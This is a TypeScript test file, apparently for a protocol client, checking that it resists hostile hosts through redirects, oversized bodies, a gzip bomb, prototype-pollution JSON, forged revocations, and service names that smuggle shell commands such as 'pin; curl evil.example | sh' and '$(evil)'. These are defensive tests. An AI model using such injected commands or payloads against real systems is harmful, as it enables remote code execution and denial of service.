import assert from 'node:assert/strict'
import { createServer, type RequestListener, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import {
  admit,
  BOUNDS,
  CAR_TYPE,
  encodeReceipts,
  Failure,
  httpChannel,
  issueReceipt,
  STREAM_TYPE,
  type Ucan,
  UcanMemory,
} from '@symbiosis/protocol'
import { memoryWallet, Symbiont } from '@symbiosis/symbiont'
import { alice, folders, messageOf, NOW, setTheStage, verdict, World } from '../fixtures.ts'
import { jar, jarringService, jarService } from './jar.ts'

/** What answers at an address and is no host, or not the one that was meant. */
describe('who is no host', () => {
  const stage = setTheStage()
  const servers: Server[] = []
  after(() => {
    for (const server of servers) server.closeAllConnections()
    return Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))))
  })

  const serve = async (listener: RequestListener): Promise<string> => {
    const server = createServer(listener)
    servers.push(server)
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  }
  const ask = async (listener: RequestListener): Promise<string> => {
    const { world, lease } = stage
    const call = await world.invocation(alice, { proofs: [lease] })
    const channel = httpChannel(await serve(listener))
    return verdict(channel.request(messageOf([call], [lease.ucan, call])).then(() => ({ ok: {} })))
  }
  /** Writes more than any answer has, as fast as it is read. */
  const pourOut = (response: ServerResponse, status: number, type: string) => {
    response.writeHead(status, { 'content-type': type }).on('error', () => {})
    for (let megabytes = 0; megabytes < 64; megabytes++) response.write(new Uint8Array(1024 * 1024))
    response.end()
  }

  it('sends nobody elsewhere: what was meant for one address is not sent to another', async () => {
    let heard = 0
    const elsewhere = await serve((_, response) => {
      heard++
      response.end()
    })
    for (const status of [301, 302, 307, 308])
      assert.equal(await ask((_, response) => response.writeHead(status, { location: elsewhere }).end()), 'Unavailable')
    assert.equal(heard, 0)
  })

  it('fills no memory: with an answer, with a refusal, or with what unpacks to one', async () => {
    assert.equal(await ask((_, response) => pourOut(response, 200, CAR_TYPE)), 'TooLarge')
    assert.equal(await ask((_, response) => pourOut(response, 500, 'application/json')), 'Unavailable')
    const bomb = gzipSync(new Uint8Array(64 * 1024 * 1024))
    const packed = { 'content-type': CAR_TYPE, 'content-encoding': 'gzip' }
    assert.equal(await ask((_, response) => response.writeHead(200, packed).end(bomb)), 'TooLarge')
    // A stream whose message says that it is longer than any.
    assert.equal(
      await ask((_, response) => response.writeHead(200, { 'content-type': STREAM_TYPE }).end(new Uint8Array(9).fill(0x7f))),
      'Malformed',
    )
  })

  it('is told by what it says, whatever it says', async () => {
    const say = (status: number, body: string) =>
      ask((_, response) => response.writeHead(status, { 'content-type': 'application/json' }).end(body))
    for (const body of [
      '',
      '<html>',
      'null',
      '[]',
      '{}',
      '{"error":null}',
      '{"error":1}',
      '{"error":{"name":1}}',
      '{"error":{"name":{"toString":1}}}',
    ])
      assert.equal(await say(500, body), 'Unavailable', body)
    assert.equal(await say(400, '{"error":{"name":"Malformed","message":{"a":1},"__proto__":{"hint":"x"},"stack":"evil"}}'), 'Malformed')
    assert.equal(({} as { hint?: string }).hint, undefined)
    assert.equal(await ask((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('hello')), 'Unsupported')
    assert.equal(
      await ask((_, response) => response.writeHead(200, { 'content-type': CAR_TYPE }).end('hello')),
      'ok',
      'the channel carries bytes: receipts tell',
    )
  })
})

describe('who stands between', () => {
  const folder = folders()
  const url = 'http://host.test/'
  let world: World
  let symbiont: Symbiont
  /** What answers in place of the host. */
  let lie: ((message: Uint8Array) => Uint8Array) | undefined

  before(async () => {
    world = await World.open({ dir: folder(), services: [jarService(), jarringService()] })
    const { channel, did } = world
    const request: typeof channel.request = async (message, options) => (lie ? lie(message) : channel.request(message, options))
    const connect = () => ({ channel: { ...channel, url, request }, about: async () => ({ did, name: 'host' }) })
    symbiont = await Symbiont.open({ wallet: memoryWallet(), now: () => NOW, connect })
    await symbiont.createSpace()
    await symbiont.pair(url)
    await symbiont.request({ jar: {}, jarring: {} })
  })
  after(async () => {
    await symbiont.close()
    await world.close()
  })
  const states = () => Object.fromEntries(symbiont.leases().map(({ can, state }) => [can, state]))
  const cidOfLease = (can: string) => symbiont.leases().find((lease) => lease.can === can)?.cid as string

  it('can refuse, and can not have anybody believe that a lease or a delegation is gone', async () => {
    for (const code of ['Revoked', 'Expired', 'NoLease', 'NotOwner', 'Denied']) {
      lie = () => {
        throw new Failure(code, 'It is gone.', { link: cidOfLease('jar/*'), by: world.did, at: NOW, chain: 'lease' })
      }
      const { error } = await symbiont.try(jar).look({})
      assert.equal(error?.name, code, 'it is told as it came')
      assert.deepEqual(states(), { 'jar/*': 'valid', 'jarring/*': 'valid' })
    }
    lie = undefined
    assert.deepEqual(await symbiont.use(jar).look({}), { things: [] })
  })

  it('is believed about nothing but what it was shown, though it be the host', async () => {
    const revoked = (link: string) => (message: Uint8Array) => {
      const [invocation] = admit(message, BOUNDS, new UcanMemory()).invocations as [Ucan]
      const error = { name: 'Revoked', message: 'It was revoked.', link, by: world.did, at: NOW }
      return encodeReceipts([{ ran: invocation.cid, block: issueReceipt(world.signer, invocation.cid, { error }) }])
    }
    lie = revoked(cidOfLease('jarring/*'))
    assert.equal((await symbiont.try(jar).look({})).error?.name, 'Revoked')
    assert.deepEqual(states(), { 'jar/*': 'valid', 'jarring/*': 'valid' })
    lie = revoked(cidOfLease('jar/*'))
    assert.equal((await symbiont.try(jar).look({})).error?.name, 'Revoked')
    assert.deepEqual(states(), { 'jar/*': 'revoked', 'jarring/*': 'valid' })
    lie = undefined
  })

  it('tells no services whose names are commands, and no name that is none', async () => {
    const { ok } = await world.call(alice, { can: 'access/hello' })
    const saying = (over: object) => (message: Uint8Array) => {
      const [invocation] = admit(message, BOUNDS, new UcanMemory()).invocations as [Ucan]
      return encodeReceipts([{ ran: invocation.cid, block: issueReceipt(world.signer, invocation.cid, { ok: { ...ok, ...over } }) }])
    }
    const named = (id: unknown) => ({ services: [{ id, about: '', abilities: [], limits: [] }] })
    const pair = () => verdict(symbiont.pair(url).then(() => ({ ok: {} })))
    lie = saying(named('pin-2'))
    assert.equal(await pair(), 'ok')
    for (const over of [
      named('pin; curl evil.example | sh'),
      named('pin\n'),
      named('\u001b[2Jpin'),
      named('$(evil)'),
      named('Pin'),
      named(''),
      named(1),
      named(null),
      { services: null },
      { services: [null] },
      { services: 'pin' },
      { name: 1 },
      { name: null },
    ]) {
      lie = saying(over)
      assert.equal(await pair(), 'Malformed', JSON.stringify(over))
    }
    lie = undefined
  })
})
